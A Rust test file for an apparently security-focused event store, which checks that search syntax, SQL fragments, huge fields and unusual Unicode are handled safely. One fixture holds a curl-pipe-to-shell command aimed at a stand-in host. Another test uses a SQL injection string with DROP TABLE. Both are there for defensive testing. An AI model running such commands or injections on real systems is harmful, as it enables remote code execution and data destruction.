//! Input meant to break things: search syntax, SQL, huge and missing fields.

use serde_json::json;
use vigil_core::event::Event;
use vigil_store::{Filter, Origin};

use crate::common::*;

fn seeded() -> TestStore {
    let s = TestStore::new();
    s.insert(&[
        event(
            "a",
            1,
            json!({"kind": "log", "source": "container_log", "action": "log",
            "log": {"message": "the quick brown fox"}}),
        ),
        event(
            "b",
            2,
            json!({"kind": "log", "source": "container_log", "action": "log",
            "log": {"message": "a \"quoted\" NEAR(fox) AND OR NOT * ^ : column:text"}}),
        ),
        event(
            "c",
            3,
            json!({"kind": "process", "source": "process", "action": "exec",
            "process": {"command_line": "sh -c 'curl evil.example | sh'"}}),
        ),
    ]);
    s
}

fn text(s: &TestStore, q: &str) -> Vec<String> {
    s.ids(&Filter {
        text: Some(q.into()),
        ..Filter::default()
    })
}

#[test]
fn search_syntax_in_the_query_is_plain_text() {
    let s = seeded();
    // Every one of these would be an FTS5 syntax error or an operator if passed through.
    for q in [
        "\"",
        "\"\"",
        "fox\"",
        "(",
        ")",
        "*",
        "fox*",
        "^fox",
        "NEAR(",
        "NEAR(fox, 2)",
        "AND",
        "fox AND",
        "OR fox",
        "NOT",
        "-fox",
        "+fox",
        "text:fox",
        "{text}: fox",
        "fox:",
        "'",
        "\\",
        "%",
        "_",
        "fox OR zebra",
        "\u{0}",
        "😀",
        "ǅ",
        "\u{200b}",
    ] {
        s.store
            .query(
                &Filter {
                    text: Some(q.into()),
                    ..Filter::default()
                },
                50,
                None,
            )
            .unwrap_or_else(|e| panic!("{q:?}: {e}"));
        s.store
            .counts(&Filter {
                text: Some(q.into()),
                ..Filter::default()
            })
            .unwrap_or_else(|e| panic!("{q:?}: {e}"));
    }
    // Operators are words that must appear, not operators.
    assert!(text(&s, "fox OR zebra").is_empty(), "OR is not an operator");
    assert_eq!(text(&s, "fox AND"), ["b"], "only b has the word AND");
    assert_eq!(text(&s, "NEAR(fox)"), ["b"]);
    assert!(
        text(&s, "qui*").is_empty(),
        "a star is not a prefix operator"
    );
    assert_eq!(text(&s, "\"quoted\""), ["b"]);
    assert_eq!(text(&s, "column:text"), ["b"], "not a column filter");
    assert_eq!(text(&s, "fox"), ["b", "a"]);
    assert_eq!(text(&s, "quick fox"), ["a"], "all words, anywhere");
    assert_eq!(text(&s, "'curl evil.example | sh'"), ["c"]);
    // Nothing searchable in it: nothing matches (rather than everything).
    assert!(text(&s, "* ( ) \"").is_empty());
}

#[test]
fn sql_in_filter_values_is_just_a_value() {
    let s = seeded();
    let evil = "x' OR '1'='1'; DROP TABLE events; --";
    let filters = [
        Filter {
            namespace: Some(evil.into()),
            ..Filter::default()
        },
        Filter {
            node: Some(evil.into()),
            ..Filter::default()
        },
        Filter {
            source: Some(evil.into()),
            ..Filter::default()
        },
        Filter {
            kind: Some(evil.into()),
            ..Filter::default()
        },
        Filter {
            action: Some(evil.into()),
            ..Filter::default()
        },
        Filter {
            rule: Some(evil.into()),
            ..Filter::default()
        },
    ];
    for f in &filters {
        assert!(s.ids(f).is_empty(), "{f:?}");
        assert!(s.store.counts(f).unwrap().is_empty());
    }
    assert_eq!(text(&s, evil).len(), 0);
    assert!(s.store.event(evil).unwrap().is_none());
    s.store.set_peer_cursor(evil, 5).unwrap();
    assert_eq!(s.store.peer_cursor(evil).unwrap(), 5);
    assert_eq!(
        s.store.stats().unwrap().events,
        3,
        "the table is still there"
    );
}

#[test]
fn huge_fields_are_stored_whole_and_shown_short() {
    let s = TestStore::new();
    let message = format!("needle {}", "y".repeat(2 << 20));
    let raw: Vec<serde_json::Value> = (0..20_000)
        .map(|i| json!({"k": i, "v": "z".repeat(20), "nested": {"a": [i, i + 1]}}))
        .collect();
    let huge = event(
        "huge",
        1,
        json!({"kind": "log", "source": "container_log", "action": "log",
               "log": {"message": message}, "raw": {"items": raw},
               "container": {"id": "c".repeat(10_000), "name": "n".repeat(100_000)},
               "detections": (0..200).map(|i| detection(&format!("rule-{i}"), (i % 16) as u8)).collect::<Vec<_>>()}),
    );
    s.insert(std::slice::from_ref(&huge));
    let stored = s.store.event("huge").unwrap().unwrap();
    assert_eq!(serde_json::from_str::<Event>(&stored.json).unwrap(), huge);
    assert!(
        stored.row.summary.chars().count() <= 241,
        "{}",
        stored.row.summary.len()
    );
    assert_eq!(stored.row.level, Some(15));
    assert_eq!(stored.row.rules.len(), 200);
    assert!(
        stored.row.container.as_ref().unwrap().len() <= 512,
        "shown short"
    );
    assert_eq!(
        text(&s, "needle"),
        ["huge"],
        "the start of a huge message is searchable"
    );
    assert_eq!(
        s.ids(&Filter {
            rule: Some("rule-199".into()),
            ..Filter::default()
        }),
        ["huge"]
    );
}

#[test]
fn events_with_only_the_required_fields_are_stored_and_listed() {
    let s = TestStore::new();
    let bare = Event {
        id: "bare".into(),
        time: at(5),
        ingest_time: at(5),
        action: String::new(),
        ..Event::default()
    };
    // A time no parser knows: ordered by when it was read instead.
    let odd_time = Event {
        id: "odd".into(),
        time: "yesterday-ish".into(),
        ingest_time: at(9),
        action: "get".into(),
        ..Event::default()
    };
    s.insert(&[bare, odd_time]);
    let rows = s.all(&Filter::default(), 10);
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0].id, "odd");
    assert_eq!(rows[0].time, "yesterday-ish", "shown as received");
    let bare = &rows[1];
    assert_eq!(
        (
            &bare.node,
            &bare.namespace,
            &bare.actor,
            &bare.object,
            &bare.container,
            &bare.image,
            bare.level
        ),
        (&None, &None, &None, &None, &None, &None, None)
    );
    assert!(s.store.containers().unwrap().is_empty());
    let f = s.store.facets().unwrap();
    assert!(f.namespaces.is_empty() && f.nodes.is_empty() && f.rules.is_empty());
    assert_eq!(f.sources, ["k8s_audit"]);
    // Filters on absent fields exclude such events rather than failing.
    assert!(
        s.ids(&Filter {
            namespace: Some("".into()),
            ..Filter::default()
        })
        .is_empty()
    );
}

#[test]
fn ids_and_values_in_any_script_round_trip() {
    let s = TestStore::new();
    let id = "ид-事件-🚀-\u{202e}";
    s.store
        .insert(
            &[event(
                id,
                1,
                json!({"node": "узел-1", "object": {"namespace": "命名空间"}}),
            )],
            Origin::Local,
        )
        .unwrap();
    assert_eq!(s.store.event(id).unwrap().unwrap().row.id, id);
    assert_eq!(
        s.ids(&Filter {
            namespace: Some("命名空间".into()),
            ..Filter::default()
        }),
        [id]
    );
    assert_eq!(
        s.ids(&Filter {
            node: Some("узел-1".into()),
            ..Filter::default()
        }),
        [id]
    );
}
